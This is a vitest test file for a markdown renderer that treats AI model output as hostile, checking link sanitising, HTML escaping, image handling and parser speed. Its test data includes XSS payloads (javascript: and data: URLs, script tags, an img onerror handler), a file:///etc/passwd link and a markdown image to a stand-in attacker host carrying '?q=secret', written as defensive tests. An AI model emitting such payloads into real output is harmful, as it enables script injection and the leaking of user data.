// Model text is hostile: whatever it says, it becomes text and a few elements, and only plain web addresses can be followed.

import { describe, expect, test } from 'vitest';
import { blocks, type Block } from '../src/parts/markdown/blocks';
import { inlines, safeHref, type Inline } from '../src/parts/markdown/inline';

const links = (parts: Inline[]): string[] =>
  parts.flatMap((part) => ('inside' in part ? [...(part.kind === 'link' ? [part.href] : []), ...links(part.inside)] : []));

describe('e4 addresses', () => {
  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    ' \u0001javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    '//evil.example/x',
    '/api/runs',
    'blob:https://a/b',
    '',
  ])('%j cannot be followed', (href) => expect(safeHref(href)).toBeNull());

  test('plain web and mail addresses can', () => {
    expect(safeHref('https://example.org/a?b=c')).toBe('https://example.org/a?b=c');
    expect(safeHref('mailto:a@example.org')).toBe('mailto:a@example.org');
  });

  test('a link with a bad address keeps its words and loses the address', () => {
    expect(links(inlines('[click](javascript:alert(1)) and [good](https://example.org)'))).toEqual(['https://example.org/']);
  });

  test('an image is never an image', () => {
    expect(inlines('![x](https://evil.example/?q=secret)')).toEqual([{ kind: 'image', href: 'https://evil.example/?q=secret', alt: 'x' }]);
  });
});

test('e4 html stays text', () => {
  const hostile = '<script>alert(1)</script> <img src=x onerror=alert(1)>';
  expect(blocks(hostile)).toEqual([{ kind: 'paragraph', inside: [{ kind: 'text', text: hostile }] }]);
});

describe('what models write', () => {
  const kinds = (list: Block[]): string[] => list.map((block) => block.kind);

  test('headings, lists, code, quotes, tables and rules', () => {
    const text = '# A\n\ntext\n- one\n  - two\n\n```rust\nlet x;\n```\n> said\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n1. x\n2. y';
    expect(kinds(blocks(text))).toEqual(['heading', 'paragraph', 'list', 'code', 'quote', 'table', 'rule', 'list']);
  });

  test('nested lists and tasks', () => {
    const [list] = blocks('- [x] done\n- [ ] open\n  - inner');
    expect(list).toMatchObject({ kind: 'list', items: [{ checked: true }, { checked: false, inside: [{ kind: 'paragraph' }, { kind: 'list' }] }] });
  });

  test('emphasis, and words that only look like it', () => {
    expect(inlines('a **b *c* d** `x*y` snake_case_name 2 * 3 * 4')).toEqual([
      { kind: 'text', text: 'a ' },
      { kind: 'strong', inside: [{ kind: 'text', text: 'b ' }, { kind: 'em', inside: [{ kind: 'text', text: 'c' }] }, { kind: 'text', text: ' d' }] },
      { kind: 'text', text: ' ' },
      { kind: 'code', text: 'x*y' },
      { kind: 'text', text: ' snake_case_name 2 * 3 * 4' },
    ]);
  });

  test('an unclosed fence is code to the end', () => {
    expect(blocks('```\na\nb')).toEqual([{ kind: 'code', language: '', text: 'a\nb' }]);
  });
});

test('S77 no text takes long, however it is made', () => {
  const before = process.cpuUsage();
  for (const piece of ['*', '_', '[', '![', '`', '> ', '- ', '(', '**a', '[a](', '<', '|', '~~x', '#', '\\', 'https://']) {
    blocks(piece.repeat(20_000));
    blocks(`${piece}\n`.repeat(5_000));
  }
  const used = process.cpuUsage(before);
  expect((used.user + used.system) / 1000).toBeLessThan(20_000);
});
